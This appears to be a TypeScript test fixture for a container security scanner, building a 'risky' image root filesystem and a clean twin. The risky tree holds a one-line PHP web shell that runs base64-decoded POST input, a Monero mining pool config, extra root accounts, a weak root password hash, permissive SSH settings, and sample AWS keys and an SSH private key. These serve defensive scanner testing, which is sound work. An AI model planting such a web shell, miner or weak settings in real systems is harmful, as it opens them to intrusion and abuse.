// Real images for the malware and baseline tests: a root filesystem written file by file (with
// modes: setuid, world-writable), `docker import`ed, optionally built upon with a Dockerfile (for
// USER and HEALTHCHECK, which `docker import --change` cannot all set). A risky tree holds one of
// every issue; its clean twin holds the same kinds of files without the issue.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

export interface RootfsFile {
  content: string | Buffer;
  mode?: number;
}

export type Rootfs = Record<string, string | RootfsFile>;

/** The EICAR anti-virus test file (not malware: every engine detects it by agreement). */
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

export function writeRootfs(dir: string, files: Rootfs): void {
  for (const [name, spec] of Object.entries(files)) {
    const file = path.join(dir, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    const { content, mode } = typeof spec === 'string' ? { content: spec, mode: undefined } : spec;
    fs.writeFileSync(file, content);
    if (mode !== undefined) fs.chmodSync(file, mode);
  }
}

/** `docker import` of the tree; `changes` are Dockerfile lines import accepts (USER, ENV, CMD …). */
export function importRootfs(tag: string, files: Rootfs, changes: string[] = []): string {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'vigil-rootfs-'));
  const tar = `${root}.tar`;
  try {
    writeRootfs(root, files);
    execFileSync('tar', ['--numeric-owner', '--owner=0', '--group=0', '-C', root, '-cf', tar, '.']);
    return execFileSync('docker', ['import', ...changes.flatMap((c) => ['--change', c]), tar, tag], { encoding: 'utf8' }).trim();
  } finally {
    fs.rmSync(tar, { force: true });
    fs.rmSync(root, { recursive: true, force: true });
  }
}

/** `docker build` of a Dockerfile with no context (FROM a local image, USER, HEALTHCHECK …). */
export function buildImage(tag: string, dockerfile: string): void {
  execFileSync('docker', ['build', '-q', '-t', tag, '-'], { input: dockerfile, stdio: ['pipe', 'pipe', 'pipe'], env: { ...process.env, DOCKER_BUILDKIT: '0' } });
}

/** A sha512crypt hash made by the real openssl, for /etc/shadow. */
export function sha512crypt(password: string, salt: string): string {
  return execFileSync('openssl', ['passwd', '-6', '-salt', salt, password], { encoding: 'utf8' }).trim();
}

const passwd = (extra = ''): string =>
  ['root:x:0:0:root:/root:/bin/sh', 'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin', 'app:x:1000:1000::/home/app:/bin/sh', extra].filter(Boolean).join('\n') + '\n';

/** One of every issue the malware, baseline and secrets scanners look for. */
export function riskyRootfs(): Rootfs {
  return {
    'etc/os-release': 'ID=vigil-test\nVERSION_ID=1\n',
    'etc/passwd': passwd('toor:x:0:0::/root:/bin/sh\nbackup2:x:1000:1000::/tmp:/bin/sh'),
    'etc/shadow': { content: `root:${sha512crypt('password', 'vigilsalt')}:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\napp::19000:0:99999:7:::\n`, mode: 0o640 },
    'etc/ssh/sshd_config': 'Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\n',
    'root/.ssh/id_rsa': '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDhK1ZfSxDqlbBWKK4ZgSDbMOXr0nHvUd1vYFtCDAtyNwAAAJg2eP7tNnj+\n-----END OPENSSH PRIVATE KEY-----\n',
    'app/config/settings.ini': '[aws]\naws_access_key_id = AKIAQ3EGRJ7PXZ4VWKTN\naws_secret_access_key = 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\n',
    'usr/local/bin/helper': { content: '#!/bin/sh\necho helper\n', mode: 0o4755 },
    'usr/bin/shared-tool': { content: '#!/bin/sh\necho tool\n', mode: 0o777 },
    'var/cache/apt/archives/curl_7.88.1-10_amd64.deb': 'not really a deb, but a cache left behind',
    'var/www/html/upload.php': '<?php if(isset($_POST["cmd"])){ eval(base64_decode($_POST["cmd"])); } ?>\n',
    'opt/miner/config.json': '{"pools":[{"url":"stratum+tcp://pool.minexmr.com:4444","user":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","pass":"x"}],"donate-level":1}\n',
    'tmp/eicar.com': EICAR,
  };
}

/** The same kinds of files, none with an issue. */
export function cleanRootfs(): Rootfs {
  return {
    'etc/os-release': 'ID=vigil-test\nVERSION_ID=1\n',
    'etc/passwd': passwd(),
    'etc/shadow': { content: 'root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n', mode: 0o640 },
    'etc/ssh/sshd_config': 'Port 22\nPermitRootLogin no\nPasswordAuthentication no\n',
    'app/config/settings.ini': '[app]\nlisten = 0.0.0.0:8080\nlog_level = info\n',
    'usr/local/bin/helper': { content: '#!/bin/sh\necho helper\n', mode: 0o755 },
    'usr/bin/shared-tool': { content: '#!/bin/sh\necho tool\n', mode: 0o755 },
    'var/www/html/index.php': '<?php echo htmlspecialchars($_GET["name"] ?? "world"); ?>\n',
    'opt/app/config.json': '{"listen":"0.0.0.0:8080","workers":4}\n',
    'tmp/readme.txt': 'nothing to see here\n',
  };
}
